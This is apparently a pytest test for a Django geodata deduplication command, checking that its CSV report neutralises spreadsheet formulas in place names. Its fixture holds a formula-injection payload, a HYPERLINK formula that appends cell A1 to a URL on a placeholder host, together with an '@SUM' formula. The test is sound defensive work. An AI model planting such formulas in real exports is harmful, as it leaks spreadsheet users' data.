"""`maillage dedupe --report` writes names that a spreadsheet would run as formulas with a
leading `'`; ids, scores and distances stay numbers."""

import csv
from pathlib import Path

import pytest
from django.core.management import call_command

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")'


def test_pair_report_neutralises_formulas_and_keeps_numbers(tmp_path: Path, capsys):
    for source, lon in (("carte-a", "-1.6800"), ("carte-b", "-1.6801")):
        path = tmp_path / f"{source}.csv"
        with path.open("w", encoding="utf-8", newline="") as handle:
            writer = csv.writer(handle)
            writer.writerow(["id", "nom", "lat", "lon"])
            writer.writerow(["1", HYPERLINK, "48.1100", lon])
            writer.writerow(["2", "@SUM(1+1)", "48.1200", "-1.6700"])
        call_command("import", "csv", str(path), "--source", source, "--category", "fablab")
    report = tmp_path / "paires.csv"
    call_command("dedupe", "--dry-run", "--report", str(report))
    capsys.readouterr()
    with report.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = {(r["left_name"], r["right_name"]) for r in rows}
    assert ("'" + HYPERLINK, "'" + HYPERLINK) in names
    assert ("'@SUM(1+1)", "'@SUM(1+1)") in names
    for row in rows:
        assert row["left"].isdigit()
        assert row["right"].isdigit()
        assert 0 < float(row["score"]) <= 1
        float(row["distance_m"])
